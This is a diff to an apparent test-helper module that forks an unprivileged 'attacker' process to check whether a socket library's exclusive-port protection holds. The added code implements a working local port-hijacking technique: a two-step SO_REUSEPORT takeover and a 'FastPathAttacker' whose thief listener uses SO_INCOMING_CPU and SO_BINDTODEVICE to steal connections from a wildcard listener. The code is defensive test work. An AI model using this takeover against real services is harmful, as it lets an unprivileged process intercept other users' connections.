@@ -7,17 +7,38 @@ It obeys JSON lines over a socketpair, so one attacker serves a whole test run.
 
 from __future__ import annotations
 
+import codecs
 import errno
 import json
 import os
 import select
 import socket
-import sys
 import time
+from collections.abc import Iterator
+from contextlib import contextmanager
 from dataclasses import dataclass
+from types import TracebackType
 from typing import Any
 
+# Observing only (how many sockets the kernel lists on a port), never attacking:
+# the attacks below are written out here, independent of the code under test.
+from aioexclusive._procnet import read_sockets
+
+# read_sockets opens /proc/net with encoding="ascii": import the codec before the fork, since
+# the attacker may be uid 65534 under an interpreter whose home only root can read.
+codecs.lookup("ascii")
+
 NOBODY = 65534
+SO_INCOMING_CPU = getattr(socket, "SO_INCOMING_CPU", 49)
+SO_BINDTODEVICE = getattr(socket, "SO_BINDTODEVICE", 25)
+LOOPBACK = {4: "127.0.0.1", 6: "::1"}
+# The two-step SO_REUSEPORT takeover of a one-family wildcard listener, by the victim's family: the attacker
+# primes the *other* family's wildcard with SO_REUSEPORT, closes it, and binds a dual-stack [::]:P with
+# SO_REUSEPORT + SO_INCOMING_CPU (docs/limits.md explains the kernel side).
+TWO_STEP: dict[int, dict[str, Any]] = {
+    6: dict(prime_family=4, prime_host="0.0.0.0", prime_v6only=False, family=6, host="::"),
+    4: dict(prime_family=6, prime_host="::", prime_v6only=True, family=6, host="::"),
+}
 OPTION_SETS = {
     "none": (),
     "SO_REUSEADDR": ("SO_REUSEADDR",),
@@ -40,6 +61,35 @@ class BindResult:
 
 def _family(family: int) -> int:
     return socket.AF_INET6 if family == 6 else socket.AF_INET
+
+
+def drop_to(uid: int | None) -> None:
+    """Become *uid* (and its gid, no supplementary groups); ``None``: stay who we are."""
+    if uid is not None:
+        os.setgroups([])
+        os.setgid(uid)
+        os.setuid(uid)
+
+
+def accept_waiting(listener: socket.socket) -> int:
+    """Accept (and close) every connection already waiting on non-blocking *listener*; how many there were."""
+    count = 0
+    while True:
+        try:
+            conn, _ = listener.accept()
+        except BlockingIOError:
+            return count
+        conn.close()
+        count += 1
+
+
+def receive_one(sock: socket.socket) -> None:
+    """Accept one connection (closed at once) or read one datagram from *sock*; BlockingIOError if none waits."""
+    if sock.type == socket.SOCK_STREAM:
+        peer, _ = sock.accept()
+        peer.close()
+    else:
+        sock.recvfrom(65536)
 
 
 def _serve(conn: socket.socket) -> None:
@@ -134,7 +184,7 @@ def _serve(conn: socket.socket) -> None:
                     landed += 1
                     # Alone on the port (it was free), or next to the victim?
                     # The kernel's table says; a co-bind is what we are after.
-                    if _sockets_on_port(cmd["proto"], cmd["port"]) > 1:
+                    if sockets_on_port(cmd["proto"], cmd["port"]) > 1:
                         shared += 1
                     time.sleep(cmd["hold"])
                 finally:
@@ -151,11 +201,7 @@ def _serve(conn: socket.socket) -> None:
                     if left <= 0 or not select.select([held], [], [], left)[0]:
                         break
                     try:
-                        if kind == "tcp":
-                            peer, _ = held.accept()
-                            peer.close()
-                        else:
-                            held.recvfrom(65536)
+                        receive_one(held)
                         count += 1
                     except BlockingIOError:
                         continue
@@ -169,20 +215,14 @@ def _serve(conn: socket.socket) -> None:
         conn.sendall(json.dumps(reply).encode() + b"\n")
 
 
-def _sockets_on_port(proto: str, port: int) -> int:
+def sockets_on_port(proto: str, port: int) -> int:
     """How many IPv4 sockets /proc/net lists on 127.0.0.1:*port* or 0.0.0.0:*port* (what conflicts with ours)."""
-    wanted = {"0100007F:%04X" % port, "00000000:%04X" % port}
-    if sys.byteorder == "big":  # /proc prints the address as a host-order word
-        wanted = {"7F000001:%04X" % port, "00000000:%04X" % port}
     try:
-        with open(f"/proc/net/{proto}") as f:
-            next(f)
-            # Distinct inodes: the kernel prints the table in chunks, and a
-            # socket added or removed between two chunks can make another
-            # appear twice.
-            return len({fields[9] for fields in map(str.split, f) if fields[1] in wanted})
+        listed = read_sockets((proto,), ports=[port])
     except OSError:
         return 0
+    # Distinct inodes: the kernel prints the table in chunks and can list a socket twice.
+    return len({s.inode for s in listed if s.address in ("127.0.0.1", "0.0.0.0")})
 
 
 class Attacker:
@@ -195,10 +235,7 @@ class Attacker:
             code = 0
             try:
                 parent.close()
-                if uid is not None:
-                    os.setgroups([])
-                    os.setgid(uid)
-                    os.setuid(uid)
+                drop_to(uid)
                 _serve(child)
             except BaseException:
                 code = 1
@@ -238,6 +275,22 @@ class Attacker:
             prime_v6only=prime_v6only, family=family, host=host, prime_reuseaddr=prime_reuseaddr,
         )
         return BindResult(r["ok"], r.get("errno"), r.get("stage")), str(r.get("prime"))
+
+    def two_step_attack(
+        self, family: int, port: int, traffic: int, *, prime_reuseaddr: bool = True
+    ) -> tuple[BindResult, str, int]:
+        """`two_step` against *family*'s wildcard listener on *port*, then *traffic* connections to its loopback.
+
+        The connections are sent from CPU 0 (`on_cpu_0`), where the attacker wins every lookup it can.
+        *prime_reuseaddr* by default: the prime then gets past TIME_WAIT connections earlier tests left on
+        the other family's side of a reused port number (a control stays deterministic), and it is the
+        stronger attack against a hold, which must refuse it all the same.
+        Returns (the attacker's listener result, how its prime went, how many connections it stole).
+        """
+        result, prime = self.two_step(port, **TWO_STEP[family], prime_reuseaddr=prime_reuseaddr)
+        with on_cpu_0():
+            send_traffic("tcp", family, LOOPBACK[family], port, traffic)
+        return result, prime, self.collect(wait=0.5)
 
     def start_race(
         self,
@@ -290,3 +343,126 @@ def send_traffic(proto: str, family: int, host: str, port: int, count: int) -> N
                 sock.sendto(b"datagram %d" % i, (host, port))
         finally:
             sock.close()
+
+
+@contextmanager
+def on_cpu_0() -> Iterator[None]:
+    """Run the block pinned to CPU 0.
+
+    Loopback connections are processed on the sender's CPU, and the attackers
+    set SO_INCOMING_CPU=0: connecting from CPU 0 lets an attacker win every
+    kernel lookup it can, so that a control is deterministic.
+    """
+    affinity = os.sched_getaffinity(0)
+    os.sched_setaffinity(0, {0})
+    try:
+        yield
+    finally:
+        os.sched_setaffinity(0, affinity)
+
+
+class FastPathAttacker:
+    """The kernel bind fast-path attack (docs/limits.md), step by step, in a forked process (as *uid*).
+
+    The child binds a prime on *prime_at*, the other family's wildcard
+    (``"::"`` IPv6-only), with SO_REUSEPORT (and SO_REUSEADDR if
+    *prime_reuseaddr*: it gets past TIME_WAIT). It closes the prime at once, or
+    with *keep_prime* writes ``primed`` and keeps it open until `go`. Then it
+    binds a dual-stack ``[::]`` thief with SO_REUSEPORT and SO_INCOMING_CPU=0
+    (and, with *bindtodevice*, SO_BINDTODEVICE=lo: one more point in the
+    kernel's lookup score, enough to beat an IPv4 listener for IPv4
+    connections), listens, and writes ``ok`` (or ``refused ERRNO`` if a bind
+    failed). `count` then asks how many connections wait for the thief.
+    """
+
+    def __init__(
+        self,
+        port: int,
+        uid: int | None,
+        *,
+        prime_at: str = "0.0.0.0",
+        prime_reuseaddr: bool = False,
+        bindtodevice: bool = False,
+        keep_prime: bool = False,
+    ) -> None:
+        to_child_r, to_child_w = os.pipe()
+        from_child_r, from_child_w = os.pipe()
+        pid = os.fork()
+        if pid == 0:  # pragma: no cover - the child
+            code = 0
+            try:
+                os.close(to_child_w)
+                os.close(from_child_r)
+                drop_to(uid)
+                self._child(to_child_r, from_child_w, port, prime_at, prime_reuseaddr, bindtodevice, keep_prime)
+            except BaseException:
+                code = 1
+            finally:
+                os._exit(code)
+        os.close(to_child_r)
+        os.close(from_child_w)
+        self.pid = pid
+        self._write_fd = to_child_w
+        self._reader = os.fdopen(from_child_r, "r")
+
+    @staticmethod
+    def _child(
+        rfd: int, wfd: int, port: int, prime_at: str, prime_reuseaddr: bool, bindtodevice: bool, keep_prime: bool
+    ) -> None:  # pragma: no cover - the child
+        try:
+            prime = socket.socket(socket.AF_INET6 if ":" in prime_at else socket.AF_INET, socket.SOCK_STREAM)
+            prime.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+            if prime_reuseaddr:
+                prime.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            if ":" in prime_at:
+                prime.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
+            prime.bind((prime_at, port))
+            if keep_prime:
+                os.write(wfd, b"primed\n")
+                os.read(rfd, 10)
+            else:
+                prime.close()
+            thief = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+            thief.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+            thief.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+            if bindtodevice:
+                thief.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, b"lo")
+            # Scores one point above the service for connections handled on
+            # CPU 0 (the parent connects pinned to it: `on_cpu_0`).
+            thief.setsockopt(socket.SOL_SOCKET, SO_INCOMING_CPU, 0)
+            thief.bind(("::", port))
+            thief.listen(64)
+        except OSError as exc:
+            os.write(wfd, f"refused {exc.errno}\n".encode())
+            return
+        os.write(wfd, b"ok\n")
+        os.read(rfd, 10)
+        thief.setblocking(False)
+        os.write(wfd, f"{accept_waiting(thief)}\n".encode())
+        os.read(rfd, 10)
+
+    def line(self) -> str:
+        """The child's next line: ``primed``, ``ok`` or ``refused ERRNO`` (empty if it died)."""
+        return self._reader.readline().strip()
+
+    def go(self) -> None:
+        """Let the child go on from where it waits."""
+        os.write(self._write_fd, b"go\n")
+
+    def count(self) -> int:
+        """How many connections the listening thief has waiting (it accepts and closes them)."""
+        self.go()
+        return int(self._reader.readline())
+
+    def close(self) -> None:
+        os.close(self._write_fd)
+        self._reader.close()
+        os.waitpid(self.pid, 0)
+
+    def __enter__(self) -> FastPathAttacker:
+        return self
+
+    def __exit__(
+        self, kind: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None
+    ) -> None:
+        self.close()
